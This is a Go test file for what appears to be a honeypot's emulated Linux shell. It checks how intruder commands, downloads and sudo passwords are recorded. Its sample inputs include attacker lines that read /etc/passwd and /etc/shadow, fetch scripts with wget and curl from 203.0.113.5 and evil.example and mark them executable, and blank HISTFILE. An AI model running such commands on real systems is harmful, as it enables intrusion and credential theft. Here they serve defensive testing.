package shell

import (
	"context"
	"errors"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"github.com/google/go-cmp/cmp/cmpopts"
)

// TestRecorderDropperLine pins what a typical dropper line reports: one
// Command per simple command, with text, directory, user and status, and
// one Download with URL, host and output path.
func TestRecorderDropperLine(t *testing.T) {
	s, rec := newSession(t, "root")
	line := "uname -a; cat /etc/passwd; wget http://203.0.113.5/x.sh -O /tmp/x.sh; chmod +x /tmp/x.sh; ls -la /tmp"
	out := run(t, s, line)

	want := []Command{
		{Text: "uname -a", Name: "uname", Args: []string{"-a"}, ExitCode: 0, Known: true},
		{Text: "cat /etc/passwd", Name: "cat", Args: []string{"/etc/passwd"}, ExitCode: 0, Known: true},
		{Text: "wget http://203.0.113.5/x.sh -O /tmp/x.sh", Name: "wget", Args: []string{"http://203.0.113.5/x.sh", "-O", "/tmp/x.sh"}, ExitCode: 4, Known: true},
		{Text: "chmod +x /tmp/x.sh", Name: "chmod", Args: []string{"+x", "/tmp/x.sh"}, ExitCode: 0, Known: true},
		{Text: "ls -la /tmp", Name: "ls", Args: []string{"--color=auto", "-la", "/tmp"}, ExitCode: 0, Known: true},
	}
	for i := range want {
		want[i].Line, want[i].CWD, want[i].User, want[i].At = line, "/root", "root", testNow
	}
	if diff := cmp.Diff(want, rec.cmds); diff != "" {
		t.Errorf("commands mismatch (-want +got):\n%s", diff)
	}
	wantDL := []Download{{Tool: "wget", URL: "http://203.0.113.5/x.sh", Host: "203.0.113.5", Path: "/tmp/x.sh",
		Command: "wget http://203.0.113.5/x.sh -O /tmp/x.sh", Err: "connection timed out", At: testNow}}
	if diff := cmp.Diff(wantDL, rec.dls); diff != "" {
		t.Errorf("downloads mismatch (-want +got):\n%s", diff)
	}
	for _, frag := range []string{
		"Linux SRV-DELTA-42 ", " x86_64 x86_64 x86_64 GNU/Linux\n",
		"root:x:0:0:root:/root:/bin/bash\n", "ubuntu:x:",
		"--2024-03-05 10:20:30--  http://203.0.113.5/x.sh\nConnecting to 203.0.113.5:80... failed: Connection timed out.\n",
		"drwxrwxrwt", " root root    0 Mar  5 10:20 \x1b[01;32mx.sh\x1b[0m\n", "-rwxr-xr-x",
	} {
		if !strings.Contains(out, frag) {
			t.Errorf("output lacks %q:\n%s", frag, out)
		}
	}
}

func TestRecorderCWDUserAndUnknown(t *testing.T) {
	s, rec := newSession(t, "ubuntu")
	run(t, s, "cd /tmp; nosuch --x; HISTFILE=/dev/null")
	got := rec.cmds
	if len(got) != 3 {
		t.Fatalf("got %d commands: %+v", len(got), got)
	}
	if got[0].CWD != "/home/ubuntu" || got[1].CWD != "/tmp" || got[1].User != "ubuntu" {
		t.Errorf("cwd/user: %+v", got)
	}
	if got[1].Known || got[1].ExitCode != 127 || got[1].Name != "nosuch" {
		t.Errorf("unknown command recorded as %+v", got[1])
	}
	if got[2].Name != "" || got[2].Text != "HISTFILE=/dev/null" {
		t.Errorf("bare assignment recorded as %+v", got[2])
	}
}

// TestDownloadWithFetcher pins the operator-enabled path: the bytes land in
// the session's view, capped, and the download reports its size.
func TestDownloadWithFetcher(t *testing.T) {
	rec := &recorder{}
	var gotMax int64
	s := NewSession(Config{FS: testFS(), Recorder: rec, Now: func() time.Time { return testNow }, Sleep: noSleep,
		Fetch: func(_ context.Context, url string, max int64) ([]byte, error) {
			gotMax = max
			if strings.Contains(url, "bad") {
				return nil, errors.New("refused")
			}
			return []byte("#!/bin/sh\necho pwned\n"), nil
		}})
	out := run(t, s, "cd /tmp && wget -q http://evil.example/a.sh && cat a.sh; curl -s http://evil.example/b -o b; cat b; curl http://bad.example/c; echo $?")
	if want := "#!/bin/sh\necho pwned\n#!/bin/sh\necho pwned\n"; !strings.HasPrefix(out, want) {
		t.Errorf("output %q does not start with %q", out, want)
	}
	if !strings.HasSuffix(out, "Connection refused\n7\n") {
		t.Errorf("failed fetch output: %q", out)
	}
	if gotMax != MaxFileSize {
		t.Errorf("fetch cap = %d, want %d", gotMax, MaxFileSize)
	}
	want := []Download{
		{Tool: "wget", URL: "http://evil.example/a.sh", Host: "evil.example", Path: "/tmp/a.sh", Size: 21},
		{Tool: "curl", URL: "http://evil.example/b", Host: "evil.example", Path: "/tmp/b", Size: 21},
		{Tool: "curl", URL: "http://bad.example/c", Host: "bad.example", Err: "Failed to connect to bad.example port 80 after 2000 ms: Connection refused"},
	}
	if diff := cmp.Diff(want, rec.dls, cmpopts.IgnoreFields(Download{}, "Command", "At", "Err")); diff != "" {
		t.Errorf("downloads mismatch (-want +got):\n%s", diff)
	}
	// Another session never sees the download.
	other, _ := newSession(t, "root")
	if got := run(t, other, "ls /tmp/a.sh"); !strings.Contains(got, "No such file") {
		t.Errorf("download leaked into another session: %q", got)
	}
}

func TestNonRootCannotReadShadow(t *testing.T) {
	s, _ := newSession(t, "ubuntu")
	if got, want := run(t, s, "cat /etc/shadow"), "cat: /etc/shadow: Permission denied\n"; got != want {
		t.Errorf("got %q, want %q", got, want)
	}
	if got := run(t, s, "ls /root"); got != "ls: cannot open directory '/root': Permission denied\n" {
		t.Errorf("ls /root: %q", got)
	}
	if got := run(t, s, "cat /root/notes.txt"); got != "cat: /root/notes.txt: Permission denied\n" {
		t.Errorf("cat notes: %q", got)
	}
	root, _ := newSession(t, "root")
	if got := run(t, root, "head -1 /etc/shadow"); !strings.HasPrefix(got, "root:$") {
		t.Errorf("root reading shadow: %q", got)
	}
}

func TestPromptAndHistory(t *testing.T) {
	for _, tc := range []struct {
		distro, user, line, want string
	}{
		{"ubuntu22", "root", "", "root@SRV-DELTA-42:~# "},
		{"ubuntu22", "root", "cd /tmp", "root@SRV-DELTA-42:/tmp# "},
		{"debian", "admin", "cd /var/log", "admin@SRV-DELTA-42:/var/log$ "},
		{"rocky9", "root", "cd /etc", "[root@SRV-DELTA-42 etc]# "},
		{"alpine", "root", "", "SRV-DELTA-42:~# "},
	} {
		p := testPersona
		p.Distro, p.Users = tc.distro, []string{"admin"}
		s := NewSession(Config{FS: NewFS(p), User: tc.user, Sleep: noSleep})
		run(t, s, tc.line)
		if got := s.Prompt(); got != tc.want {
			t.Errorf("%s/%s after %q: Prompt() = %q, want %q", tc.distro, tc.user, tc.line, got, tc.want)
		}
	}
	s, _ := newSession(t, "root")
	for _, l := range []string{"id", "  ", "echo x", "exit"} {
		run(t, s, l)
	}
	if diff := cmp.Diff([]string{"id", "echo x", "exit"}, s.History()); diff != "" {
		t.Errorf("History mismatch (-want +got):\n%s", diff)
	}
}

func TestExitAndNestedShells(t *testing.T) {
	var b strings.Builder
	s, _ := newSession(t, "root")
	if s.Run(context.Background(), "su - ubuntu", &b) {
		t.Fatal("su ended the session")
	}
	if got := run(t, s, "whoami; echo $SHLVL"); got != "ubuntu\n2\n" {
		t.Errorf("after su: %q", got)
	}
	if s.Run(context.Background(), "exit", &b) {
		t.Fatal("exit from su ended the session")
	}
	if got := run(t, s, "whoami"); got != "root\n" {
		t.Errorf("after su exit: %q", got)
	}
	b.Reset()
	if !s.Run(context.Background(), "echo bye; exit 3", &b) {
		t.Fatal("exit did not end the session")
	}
	if b.String() != "bye\nlogout\n" {
		t.Errorf("exit output %q", b.String())
	}
	if !s.Run(context.Background(), "id", &b) {
		t.Error("Run after exit should report the end")
	}
}

// TestPasswordPrompts pins interactive answers: the line after passwd is a
// password, not a command, and is kept out of History.
func TestPasswordPrompts(t *testing.T) {
	s, rec := newSession(t, "root")
	if got := run(t, s, "passwd"); got != "" || s.Prompt() != "New password: " || s.Echo() {
		t.Fatalf("passwd: out %q prompt %q echo %v", got, s.Prompt(), s.Echo())
	}
	run(t, s, "hunter2")
	if s.Prompt() != "Retype new password: " {
		t.Fatalf("second prompt %q", s.Prompt())
	}
	if got := run(t, s, "hunter2"); got != "\npasswd: password updated successfully\n" {
		t.Errorf("passwd result %q", got)
	}
	if diff := cmp.Diff([]string{"passwd"}, s.History()); diff != "" {
		t.Errorf("History mismatch (-want +got):\n%s", diff)
	}
	if len(rec.cmds) != 1 {
		t.Errorf("answers recorded as commands: %+v", rec.cmds)
	}
	if !strings.HasPrefix(s.Prompt(), "root@") {
		t.Errorf("prompt after passwd %q", s.Prompt())
	}
}

func TestSudoSemantics(t *testing.T) {
	root, _ := newSession(t, "root")
	if got := run(t, root, "sudo id -u"); got != "0\n" {
		t.Errorf("root sudo: %q", got)
	}
	// A user outside the sudo group is refused after the password.
	s := NewSession(Config{FS: testFS(), User: "mallory", Sleep: noSleep})
	run(t, s, "sudo cat /etc/shadow")
	if got := run(t, s, "guess"); !strings.Contains(got, "mallory is not in the sudoers file.") {
		t.Errorf("non-sudoer: %q", got)
	}
	// The persona's own user: a sudoer runs the command as root once any
	// password is given; otherwise sudo refuses after the password.
	acct, _ := testFS().account("ubuntu")
	u, _ := newSession(t, "ubuntu")
	out := run(t, u, "sudo id -u")
	nopasswd := out == "0\n"
	if !nopasswd {
		if u.Prompt() != "[sudo] password for ubuntu: " {
			t.Fatalf("sudo prompt %q (out %q)", u.Prompt(), out)
		}
		out = run(t, u, "secret")
	}
	switch {
	case acct.sudo && !strings.HasSuffix(out, "0\n"):
		t.Errorf("sudoer got %q", out)
	case !acct.sudo && !strings.Contains(out, "not in the sudoers file"):
		t.Errorf("non-sudoer got %q", out)
	}
	if got := run(t, u, "id -u"); got == "0\n" {
		t.Error("sudo left the user as root")
	}
}

func TestBackgroundPanicRecovered(t *testing.T) {
	s, _ := newSession(t, "root")
	register("crashme", cmdSpec{fn: func(*cmdCtx) int { panic("boom") }})
	defer delete(cmdTable, "crashme")
	builtins["crashme"] = cmdTable["crashme"].fn
	defer delete(builtins, "crashme")
	if got := run(t, s, "crashme; echo $?; echo alive"); got != "Segmentation fault (core dumped)\n139\nalive\n" {
		t.Errorf("panic output %q", got)
	}
}

// answerRecorder also collects prompt answers.
type answerRecorder struct {
	recorder
	answers []Answer
}

func (r *answerRecorder) Answer(a Answer) { r.answers = append(r.answers, a) }

// TestAnswersRecordedNotLeaked pins that a password typed at sudo's prompt
// reaches an AnswerRecorder and never a Command record or History.
func TestAnswersRecordedNotLeaked(t *testing.T) {
	// Find a persona whose user may sudo but only with a password.
	var f *FS
	for seed := uint64(1); seed < 200 && f == nil; seed++ {
		cand := NewFS(Persona{Distro: "ubuntu22", Seed: seed, Users: []string{"ops"}})
		a, _ := cand.account("ops")
		if _, err := cand.ReadFile("/etc/sudoers.d/90-ops"); a.sudo && err != nil {
			f = cand
		}
	}
	if f == nil {
		t.Fatal("no seed gives a password-only sudoer")
	}
	rec := &answerRecorder{}
	s := NewSession(Config{FS: f, User: "ops", Recorder: rec, Now: func() time.Time { return testNow }, Sleep: noSleep})
	run(t, s, "sudo sh -c 'id -u; whoami'")
	out := run(t, s, "S3cret!")
	if out != "\n0\nroot\n" {
		t.Errorf("sudo output %q", out)
	}
	want := []Answer{{Prompt: "[sudo] password for ops: ", Text: "S3cret!", Secret: true, Line: "sudo sh -c 'id -u; whoami'", User: "ops", At: testNow}}
	if diff := cmp.Diff(want, rec.answers); diff != "" {
		t.Errorf("answers mismatch (-want +got):\n%s", diff)
	}
	for _, c := range rec.cmds {
		if strings.Contains(c.Line, "S3cret") || strings.Contains(c.Text, "S3cret") {
			t.Errorf("password leaked into %+v", c)
		}
	}
	if got := len(rec.cmds); got != 3 {
		t.Errorf("recorded %d commands, want sudo, id and whoami: %+v", got, rec.cmds)
	}
	if diff := cmp.Diff([]string{"sudo sh -c 'id -u; whoami'"}, s.History()); diff != "" {
		t.Errorf("History mismatch (-want +got):\n%s", diff)
	}
	// The password is remembered for the rest of the session, as sudo's
	// timestamp does.
	if got := run(t, s, "sudo whoami"); got != "root\n" {
		t.Errorf("second sudo: %q", got)
	}
}
